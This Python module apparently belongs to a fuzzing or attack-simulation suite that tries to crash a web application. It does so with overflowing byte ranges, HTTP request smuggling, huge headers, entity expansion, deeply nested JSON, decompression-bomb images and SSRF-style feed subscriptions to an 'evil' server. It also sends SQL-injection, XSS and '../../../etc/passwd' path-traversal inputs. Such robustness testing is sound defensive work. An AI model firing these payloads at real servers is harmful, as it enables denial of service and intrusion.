"""To stop the process: numbers, broken HTTP, documents, pictures, deep and endless things."""

import json
import struct
import zlib

from .evil_server import FEEDS, PAGES, png
from .moves import Attacker, move

NUMBERS = (
    "9223372036854775807", "9223372036854775808", "-9223372036854775808", "18446744073709551615",
    "-1", "0", "1e400", "9" * 400, "NaN", "0x7fffffff", "٣", "+1", " 1", "2147483648", "4294967296",
)


@move("stop the process")
def ranges(a: Attacker):
    """Ranges of bytes at the limits of integers, backwards, and thousands at once."""
    paths = ["/css/app.css", a.known["public picture"], "/sw.js", a.known["private picture"]]
    for number in NUMBERS:
        for shape in (f"0-{number}", f"{number}-", f"-{number}", f"{number}-{number}", f"5-{number}"):
            a.ask("GET", a.chance.choice(paths), headers={"Range": f"bytes={shape.strip()}".encode()})
    a.ask("GET", paths[1], headers={"Range": "bytes=" + ",".join(f"{n}-" for n in range(5000))})


@move("stop the process")
def numbers_in_paths_and_queries(a: Attacker):
    """Every number that an address carries, beyond its limits."""
    paths = ("/posts/{}", "/read/articles/{}", "/media/{}/large.jpg", "/surveys/{}", "/messages/{}",
             "/read/history?before={}", "/read?after={}", "/explore?after={}", "/explore?seed={}",
             "/search?q=x&before={}", "/messages/{}?at={}", "/api/v1/live?after={}",
             "/api/v1/events?after={}&limit={}", "/api/v1/social/posts?q=a&limit={}",
             "/articles?page={}", "/magazine/search?q=a&before={}", "/inbox?before={}")
    for path in paths:
        number = a.chance.choice(NUMBERS)
        if not path.startswith("/api/v1/live"):
            a.ask("GET", path.replace("{}", number))


@move("stop the process")
def headers(a: Attacker):
    """Headers that lie about length, that are repeated, too many, too long, or no text."""
    host, cookie = a.host, a.cookie
    for number in NUMBERS:
        a.raw(b"POST /sign-in HTTP/1.1\r\nHost: " + host + b"\r\nContent-Length: " + number.encode()
              + b"\r\n\r\nname=x", timeout=1)
    for lines in (
        b"Host: evil.test\r\nHost: " + host, b"", b"Host:", b"Host: " + host + b"@evil.test",
        b"Host: " + host + b"\r\nX: " + b"x" * 1_000_000,
        b"Host: " + host + b"\r\n" + b"X: y\r\n" * 20_000,
        b"Host: " + host + b"\r\nTransfer-Encoding: chunked\r\nContent-Length: 4",
        b"Host: " + host + b"\r\nCookie: " + cookie + b"; " + b"a=b; " * 50_000,
        b"Host: " + host + b"\r\nIf-Modified-Since: " + b"9" * 4000,
        b"Host: " + host + b"\r\nAccept-Language: " + b"cs;q=0.1," * 20_000,
        b"Host: " + host + b"\r\nAccept-Encoding: " + b"gzip;q=1e999," * 5000,
        b"Host: " + host + b"\r\nX-Forwarded-For: " + b"::ffff:999.999.999.999," * 3000,
        b"Host: " + host + b"\r\nLast-Event-ID: " + b"9" * 5000,
        b"Host: " + host + b"\r\nX-\xff\x00: \xff",
    ):
        a.raw(b"GET /healthz HTTP/1.1\r\n" + lines + b"\r\nConnection: close\r\n\r\n", timeout=2)


@move("stop the process")
def broken_http(a: Attacker):
    """Requests that are none: garbage, smuggled ones, half ones, a thousand in a line."""
    host = a.host
    for data in (
        b"\x16\x03\x01\x02\x00" + b"\x00" * 500, b"GET " + b"/" * 100_000 + b" HTTP/1.1\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"GET / HTTP/9.9\r\n\r\n", b"\r\n" * 10_000,
        b"GET http://evil.test/healthz HTTP/1.1\r\nHost: " + host + b"\r\n\r\n",
        b"OPTIONS * HTTP/1.1\r\nHost: " + host + b"\r\nConnection: close\r\n\r\n",
        b"CONNECT 127.0.0.2:80 HTTP/1.1\r\nHost: 127.0.0.2\r\n\r\n",
        b"TRACE / HTTP/1.1\r\nHost: " + host + b"\r\nConnection: close\r\n\r\n",
        b"GET /%00%ff%fe%c0%af.. HTTP/1.1\r\nHost: " + host + b"\r\nConnection: close\r\n\r\n",
        b"POST /sign-in HTTP/1.1\r\nHost: " + host
        + b"\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFF\r\nx",
        b"POST /sign-in HTTP/1.1\r\nHost: " + host
        + b"\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\nx\r\n0\r\n\r\n",
        (b"GET /healthz HTTP/1.1\r\nHost: " + host + b"\r\n\r\n") * 1000,
    ):
        a.raw(data, timeout=2)


@move("stop the process")
def subscribe_to_pages(a: Attacker):
    """Channels that are the worst pages there are."""
    form = a.chance.choice(PAGES)
    a.ask("POST", "/read/channels/find", data={"address": f"{a.evil.base}/page/{form}"}, timeout=90)


@move("stop the process")
def subscribe_to_feeds(a: Attacker):
    """Feeds of eight megabytes, and feeds whose numbers and texts are the worst there are."""
    form = a.chance.choice(FEEDS)
    a.ask("POST", "/read/channels/find", data={"address": f"{a.evil.base}/feed/{form}"}, timeout=90)
    a.api("POST", "/reader/channels", {"url": f"{a.evil.base}/feed/{form}"}, timeout=90)


@move("stop the process")
def links_in_messages(a: Attacker):
    """Links whose previews are fetched without a click."""
    form = a.chance.choice(PAGES)
    a.api("POST", f"/messages/conversations/{a.known['own conversation']}/messages",
          {"text": f"{a.evil.base}/page/{form}?{a.chance.random()}"})


@move("stop the process")
def lists_of_channels(a: Attacker):
    """OPML of sixteen megabytes: deep, long, with entities, cut off, with numbers for names."""
    inner = a.chance.choice((
        "<outline>" * 1_000_000, '<outline xmlUrl="http://x/"/>' * 400_000, "&lol;" * 1_000_000,
        '<outline text="' + "x" * 15_000_000, '<outline xmlUrl="javascript:alert(1)"/>'))
    a.ask("POST", "/read/channels/import", timeout=60, files={
        "file": ("a.opml", f"<opml><body>{inner}"[: 16 << 20].encode(), "text/xml")})


@move("stop the process")
def json_without_end(a: Attacker):
    """JSON a hundred thousand deep, with huge numbers, broken letters and repeated keys."""
    deep = b"[" * 100_000
    for path, method in (("/surveys", "POST"), ("/social/posts/1/comments", "POST"),
                         ("/notifications/preferences", "PUT"), ("/messages/settings", "PATCH")):
        for body in (deep, b'{"a":' * 50_000, b'{"title":1e999}', b'{"title":"\\ud800"}',
                     b'{"limit":' + b"9" * 5000 + b"}", b"\xff\xfe{", b'{"a":1,' * 20_000, b"null", b""):
            a.api(method, path, raw=body)


@move("stop the process")
def definitions_of_surveys(a: Attacker):
    """Definitions with ten thousand questions, conditions in a circle and numbers beyond all limits."""
    question = {"id": "q", "kind": "number", "title": "x", "min": 1e300, "max": -1e300}
    around = {**question, "show_if": {"all": [{"question": "q", "less": -9e18}]}}
    for body in (
        {"version": 1, "language": "en", "title": "x" * 1_000_000, "pages": []},
        {"version": 9223372036854775807, "title": "x", "pages": []},
        {"version": 1, "language": "en", "title": "x", "pages": [{"id": "p", "questions": [question] * 10_000}]},
        {"version": 1, "language": "en", "title": "x", "pages": [{"id": "p", "questions": [around]}]},
        {"version": 1, "language": "en", "title": "x", "pages": [{"id": f"p{n}"} for n in range(20_000)]},
        {"version": 1, "pages": None, "title": [], "questions": {"a": 1}},
    ):
        a.api("POST", "/surveys", body)
        a.ask("POST", "/surveys/load", files={
            "file": ("s.json", json.dumps(body).encode(), "application/json")})


@move("stop the process")
def parts_of_forms(a: Attacker):
    """Multipart forms with a hundred thousand parts, without an end, with names that are paths."""
    def send(body: bytes, boundary: str = "b") -> None:
        a.ask("POST", a.chance.choice(("/posts", "/stories", "/read/channels/import")), data=body,
              headers={"Content-Type": f"multipart/form-data; boundary={boundary}"})

    part = b'--b\r\nContent-Disposition: form-data; name="x"\r\n\r\ny\r\n'
    send(part * 100_000 + b"--b--\r\n")
    send(part)
    send(b"--b" * 300_000)
    send(b'--b\r\nContent-Disposition: form-data; name="photo"; filename="../../../etc/passwd"\r\n\r\nx\r\n--b--')
    send(b"--b\r\n" + b"X: y\r\n" * 100_000 + b"\r\n\r\n--b--")
    send(part + b"--b--", boundary='"' + "b" * 5000 + '"')
    a.ask("POST", "/sign-in", data=b"&" * 2_000_000,
          headers={"Content-Type": "application/x-www-form-urlencoded"})
    a.ask("POST", "/home/sort", data=b"=".join([b"a&b[c][d]"] * 100_000),
          headers={"Content-Type": "application/x-www-form-urlencoded"})


@move("stop the process")
def pictures(a: Attacker):
    """Pictures that say they are enormous, that are not, that are cut, that are other things."""
    gif = b"GIF89a\xff\xff\xff\xff\xf7\x00\x00" + b"\x2c" * 100_000
    jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03" + b"\x00" * 99
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/><script>1</script></svg>'
    webp = b"RIFF" + struct.pack("<I", 1 << 30) + b"WEBPVP8X" + b"\xff" * 200
    many = (png(60_000, 60_000), png(0xFFFFFFF, 1), png(1, 1, zlib.compress(bytes(50_000_000))), gif,
            jpeg, svg, webp, b"\x00" * 1_000_000, png(64, 64)[:60], b"")
    a.ask("POST", "/posts", data={"caption": "x", "audience": "everyone"},
          files=[("photo", (f"{n}.png", body, "image/png")) for n, body in enumerate(many)], timeout=60)
    a.ask("POST", "/me/profile", files={"photo": ("p.jpg", a.chance.choice(many), "image/jpeg")})
    a.ask("POST", "/stories", data={"edit.0": '{"rotation":1e308,"crop":{"x":-9e99,"width":"NaN"}}'},
          files={"photo": ("p.png", png(64, 64), "image/png")})


@move("stop the process")
def addresses_of_ours(a: Attacker):
    """Answers of a server of hers: endless, slow, packed, in a circle, with five thousand headers."""
    path = a.chance.choice(("endless/x", "slow/x", "bomb/x", "round/1", "headers/x", "numbers/x"))
    a.ask("POST", "/read/channels/find", data={"address": f"{a.evil.base}/{path}"}, timeout=90)


@move("stop the process")
def texts(a: Attacker):
    """Words of every kind into every field: letters of no kind, a million of one, directions."""
    words = ("\u202e" * 5000, "\ud7ff\ufdd0\uffff", "a\u0301" * 100_000, "👨‍👩‍👧‍👦" * 20_000, "%" * 50_000,
             "' OR 1=1 --", '"><script>alert(1)</script>', "\x00", "*" * 10_000, "(" * 10_000)
    for word in words:
        a.ask("GET", "/search", params={"q": word[:3000]})
        a.ask("POST", f"/posts/{a.known['public post']}/comments", data={"text": word})
        a.ask("POST", "/me/profile", data={"display_name": word, "bio": word})
        a.ask("GET", "/messages/search", params={"q": word[:3000]})
        a.ask("GET", "/explore", params={"q": word[:3000]})
